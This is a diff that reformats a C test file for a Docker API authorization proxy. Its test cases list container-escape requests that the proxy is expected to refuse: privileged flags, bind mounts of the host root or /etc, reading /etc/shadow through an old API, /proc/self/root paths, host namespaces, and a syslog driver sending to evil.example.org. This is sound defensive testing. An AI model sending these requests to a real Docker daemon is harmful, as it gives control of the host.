@@ -1,6 +1,6 @@
 /* SPDX-License-Identifier: Apache-2.0 */
-/* What two parsers could read in two ways, and the known bypasses of other proxies and plugins: each
- * is refused, whatever the policy grants field by field. */
+/* What two parsers could read in two ways, and the known bypasses of other proxies and plugins:
+ * each is refused, whatever the policy grants field by field. */
 #include "unit.h"
 
 #include "policy_case.h"
@@ -20,8 +20,8 @@ static void names_are_read_as_go_reads_them(void **state)
 	    {CREATE, "{\"Ho\xc5\xbftConfig\":{\"Privileged\":true}}", "ambiguous HostConfig", NULL},
 	    {CREATE, "{\"Ho\\u017ftConfig\":{}}", "ambiguous HostConfig", NULL},
 	    {CREATE, HOST("\"Bind\xc5\xbf\":[\"/:/h\"]"), "ambiguous HostConfig.Binds", NULL},
-	    {CREATE, HOST("\"Networ\xe2\x84\xaaMode\":\"host\""), "ambiguous HostConfig.NetworkMode",
-		NULL},
+	    {CREATE, HOST("\"Networ\xe2\x84\xaaMode\":\"host\""),
+		"ambiguous HostConfig.NetworkMode", NULL},
 	    {CREATE, HOST("\"\xc3\xa9\":null"), "ambiguous HostConfig.\xc3\xa9", NULL},
 	    {CREATE, HOST("\"Privileged\\u0000x\":true"), "gate", NULL},
 	    {CREATE, HOST("\"Privileged\":false,\"privileged\":true"),
@@ -31,7 +31,8 @@ static void names_are_read_as_go_reads_them(void **state)
 	    {CREATE, "{\"HostConfig\":null,\"hostConfig\":{\"Privileged\":true}}",
 		"ambiguous HostConfig", NULL},
 	    {CREATE, "{\"HostConfig\":{\"Privileged\":true},\"HostConfig\":{}}", "gate", NULL},
-	    {CREATE, "{\"HostConfig\":{},\"\\u0048ostConfig\":{\"Privileged\":true}}", "gate", NULL},
+	    {CREATE, "{\"HostConfig\":{},\"\\u0048ostConfig\":{\"Privileged\":true}}", "gate",
+		NULL},
 	    {CREATE, HOST("\"Mounts\":[{\"Type\":\"tmpfs\",\"type\":\"bind\"}]"),
 		"ambiguous HostConfig.Mounts[0].Type", NULL},
 	    {"POST /volumes/create", "{\"DriverOpts\":{},\"driveropts\":{\"device\":\"/\"}}",
@@ -58,20 +59,23 @@ static void known_bypasses_are_refused(void **state)
 	    /* bind mounts that only Binds was searched for */
 	    {CREATE, HOST("\"Mounts\":[{\"Type\":\"bind\",\"Source\":\"/\",\"Target\":\"/h\"}]"),
 		"grant HostConfig.Mounts[0].Source", NULL},
-	    {CREATE, HOST("\"Mounts\":[{\"Type\":\"volume\",\"Target\":\"/h\",\"VolumeOptions\":"
-			  "{\"DriverConfig\":{\"Name\":\"local\",\"Options\":{\"type\":\"none\",\"o\":"
-			  "\"bind\",\"device\":\"/etc\"}}}}]"),
+	    {CREATE,
+		HOST("\"Mounts\":[{\"Type\":\"volume\",\"Target\":\"/h\",\"VolumeOptions\":"
+		     "{\"DriverConfig\":{\"Name\":\"local\",\"Options\":{\"type\":\"none\",\"o\":"
+		     "\"bind\",\"device\":\"/etc\"}}}}]"),
 		"grant HostConfig.Mounts[0].VolumeOptions.DriverConfig.Options[type]", NULL},
-	    {CREATE, HOST("\"VolumeDriver\":\"x\",\"Binds\":[\"v:/h\"]"), "grant HostConfig.VolumeDriver",
-		NULL},
+	    {CREATE, HOST("\"VolumeDriver\":\"x\",\"Binds\":[\"v:/h\"]"),
+		"grant HostConfig.VolumeDriver", NULL},
 	    {CREATE, HOST("\"VolumesFrom\":[\"other\"]"), "grant HostConfig.VolumesFrom[0]", NULL},
 	    {"POST /volumes/create",
-		"{\"Name\":\"v\",\"Driver\":\"local\",\"DriverOpts\":{\"type\":\"none\",\"o\":\"bind\","
+		"{\"Name\":\"v\",\"Driver\":\"local\",\"DriverOpts\":{\"type\":\"none\",\"o\":"
+		"\"bind\","
 		"\"device\":\"/\"}}",
 		"grant DriverOpts[type]", NULL},
 	    /* services skipped what containers were checked for */
 	    {"POST /services/create",
-		"{\"TaskTemplate\":{\"ContainerSpec\":{\"Mounts\":[{\"Type\":\"bind\",\"Source\":\"/\","
+		"{\"TaskTemplate\":{\"ContainerSpec\":{\"Mounts\":[{\"Type\":\"bind\",\"Source\":"
+		"\"/\","
 		"\"Target\":\"/h\"}]}}}",
 		"grant TaskTemplate.ContainerSpec.Mounts[0].Source", NULL},
 	    {"POST /services/create", "{\"TaskTemplate\":{\"Networks\":[{\"Target\":\"host\"}]}}",
@@ -79,21 +83,27 @@ static void known_bypasses_are_refused(void **state)
 	    {"POST /services/x/update?rollback=previous", "{}", "grant query:rollback", NULL},
 	    /* an old API where a start rewrites the container */
 	    {"POST /v1.23/containers/x/start", "{\"Privileged\":true}", "api_version", NULL},
-	    {"POST /v1.12/containers/x/copy", "{\"Resource\":\"/etc/shadow\"}", "api_version", NULL},
-	    {"POST /v1.41/containers/x/start", "{\"HostConfig\":{\"Privileged\":true}}", "body", NULL},
+	    {"POST /v1.12/containers/x/copy", "{\"Resource\":\"/etc/shadow\"}", "api_version",
+		NULL},
+	    {"POST /v1.41/containers/x/start", "{\"HostConfig\":{\"Privileged\":true}}", "body",
+		NULL},
 	    /* spellings of root for which a look at the name was not enough */
-	    {CREATE, HOST("\"Binds\":[\"/proc/self/root/etc:/h\"]"), "grant HostConfig.Binds[0]", NULL},
+	    {CREATE, HOST("\"Binds\":[\"/proc/self/root/etc:/h\"]"), "grant HostConfig.Binds[0]",
+		NULL},
 	    {CREATE, HOST("\"Binds\":[\"//etc:/h\"]"), "ambiguous HostConfig.Binds[0]", NULL},
 	    {CREATE, HOST("\"Binds\":[\"/srv/../etc:/h\"]"), "ambiguous HostConfig.Binds[0]", NULL},
 	    {CREATE, HOST("\"UsernsMode\":\"host\""), "grant HostConfig.UsernsMode", NULL},
 	    {CREATE, HOST("\"Cgroup\":\"container:x\""), "never HostConfig.Cgroup", NULL},
-	    {CREATE, HOST("\"SecurityOpt\":[\"seccomp={}\"]"), "grant HostConfig.SecurityOpt[0]", NULL},
-	    {CREATE, HOST("\"LogConfig\":{\"Type\":\"syslog\",\"Config\":{\"syslog-address\":"
-			  "\"udp://evil.example.org\"}}"),
+	    {CREATE, HOST("\"SecurityOpt\":[\"seccomp={}\"]"), "grant HostConfig.SecurityOpt[0]",
+		NULL},
+	    {CREATE,
+		HOST("\"LogConfig\":{\"Type\":\"syslog\",\"Config\":{\"syslog-address\":"
+		     "\"udp://evil.example.org\"}}"),
 		"grant HostConfig.LogConfig.Type", NULL},
 	    {CREATE, "{\"WorkingDir\":\"/proc/self/fd/8\"}", "never WorkingDir", NULL},
 	    {"POST /containers/x/exec", "{\"Privileged\":true}", "grant Privileged", NULL},
-	    {"POST /containers/x/exec", "{\"WorkingDir\":\"/proc/self/fd/8\"}", "never WorkingDir", NULL},
+	    {"POST /containers/x/exec", "{\"WorkingDir\":\"/proc/self/fd/8\"}", "never WorkingDir",
+		NULL},
 	    {"POST /plugins/pull?remote=evil/x", "[]", "grant query:remote", NULL},
 	    {"POST /images/create?fromImage=bb&tag=1&tag=2", NULL, "grant query:fromImage", NULL},
 	    {"POST /build?networkmode=host", NULL, "grant query:networkmode", NULL},
